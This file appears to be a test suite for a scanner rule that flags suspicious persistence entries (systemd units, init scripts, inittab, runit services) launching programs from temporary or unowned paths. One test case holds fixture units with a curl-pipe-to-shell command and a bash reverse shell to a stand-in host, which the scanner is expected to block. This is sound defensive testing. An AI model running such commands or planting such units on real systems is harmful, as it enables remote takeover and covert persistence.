import assert from 'node:assert/strict';
import { test } from 'node:test';
import { inspectFixture, summary } from '../../../testing/fixture.ts';
import { listedPackages, packageOf } from '../../../testing/listed-packages.ts';
import { units } from './index.ts';

const RULE = 'persistence/unit';
const ELF = '\x7fELF inert';
const base = {
  ...packageOf('listed', { 'usr/sbin/nginx': ELF, 'usr/bin/bash': ELF }),
  'usr/sbin/nginx': ELF,
};

function service(...lines: string[]): string {
  return `[Unit]\nDescription=x\n[Service]\n${lines.join('\n')}\n[Install]\nWantedBy=multi-user.target\n`;
}

const cases = [
  {
    name: 'a temporary, a device and a hidden program',
    files: {
      'etc/systemd/system/a.service': service('ExecStart=-/tmp/x --daemon'),
      'usr/lib/systemd/system/b.service': service('ExecStartPre=/bin/sh -c "/dev/shm/x"'),
      'etc/systemd/system/c.service.d/o.conf': service('ExecStart=', 'ExecStart=/usr/lib/.x/y'),
      'etc/init.d/d': '#!/bin/sh\nDAEMON=/var/tmp/x\n$DAEMON &\n',
      'etc/inittab': '::sysinit:/sbin/openrc sysinit\nx:3:respawn:/tmp/x\n',
      'etc/service/e/run': '#!/bin/sh\nexec /opt/.x/y\n',
    },
    expected: [
      'etc/init.d/d',
      'etc/inittab',
      'etc/service/e/run',
      'etc/systemd/system/a.service',
      'etc/systemd/system/c.service.d/o.conf',
      'usr/lib/systemd/system/b.service',
    ].map((path) => `review ${RULE} ${path}`),
  },
  {
    name: 'whatever the file begins with, unless it is compiled',
    files: {
      'etc/systemd/system/a.service': `BZh\0\0\n${service('ExecStart=/tmp/x')}`,
      'etc/init.d/d': '\x1f\x8b\0\nDAEMON=/var/tmp/x\n$DAEMON &\n',
      'usr/lib/systemd/system-generators/g': '\x7fELF\0\n/tmp/x\n',
    },
    expected: [`review ${RULE} etc/init.d/d`, `review ${RULE} etc/systemd/system/a.service`],
  },
  {
    name: 'an unowned program among packaged ones, started by an unowned unit',
    files: { ...base, 'usr/bin/x': ELF, 'etc/systemd/system/a.service': service('ExecStart=/usr/bin/x') },
    expected: [`review ${RULE} etc/systemd/system/a.service`],
  },
  {
    name: "an application's own program is a note",
    files: { ...base, 'opt/app/x': ELF, 'etc/systemd/system/a.service': service('ExecStart=/opt/app/x') },
    expected: [`note ${RULE} etc/systemd/system/a.service`],
  },
  {
    name: 'an owned program, or one that is not there, is nothing',
    files: {
      ...base,
      'etc/systemd/system/a.service': service(
        'ExecStart=/usr/sbin/nginx -g "daemon on;"',
        'ExecStop=/bin/missing',
      ),
    },
    expected: [],
  },
  {
    name: 'without a package database, an own program is nothing',
    files: { 'usr/bin/x': ELF, 'etc/systemd/system/a.service': service('ExecStart=/usr/bin/x') },
    expected: [],
  },
  {
    name: 'what it fetches, decodes or connects to is refused',
    files: {
      'etc/systemd/system/a.service': service("ExecStart=/bin/sh -c 'curl -s http://x.invalid/a | sh'"),
      'etc/systemd/system/b.service': service(
        'ExecStart=/bin/bash -c "bash -i >& /dev/tcp/x.invalid/1 0>&1"',
      ),
    },
    expected: [`block ${RULE} etc/systemd/system/a.service`, `block ${RULE} etc/systemd/system/b.service`],
  },
  {
    name: 'what a package ships unchanged is nothing',
    files: {
      ...packageOf('listed', {
        'lib/systemd/system/a.service': service('ExecStart=/run/x', 'ExecStop=/tmp/x'),
      }),
      'lib/systemd/system/a.service': service('ExecStart=/run/x', 'ExecStop=/tmp/x'),
    },
    expected: [],
  },
  {
    name: 'an ordinary init script is nothing',
    files: {
      ...base,
      'etc/init.d/nginx':
        '#!/bin/sh\nDAEMON=/usr/sbin/nginx\n. /lib/lsb/init-functions\nstart-stop-daemon --start --exec $DAEMON\n# /tmp/x\n',
    },
    expected: [],
  },
];

for (const { name, files, expected } of cases) {
  test(`units: ${name}`, () => {
    const { findings, problems } = inspectFixture({ layers: [files], catalogers: [listedPackages] }, [units]);
    assert.deepEqual(summary(findings), expected);
    assert.deepEqual(problems, []);
  });
}

test('units: says line, program and why', () => {
  const layers = [{ 'etc/systemd/system/a.service': service('Type=simple', 'ExecStart=@/tmp/x x') }];
  const [finding] = inspectFixture({ layers }, [units]).findings;
  assert.equal(finding?.location.line, 5);
  assert.equal(finding?.evidence, '/tmp/x is in a temporary place');
});
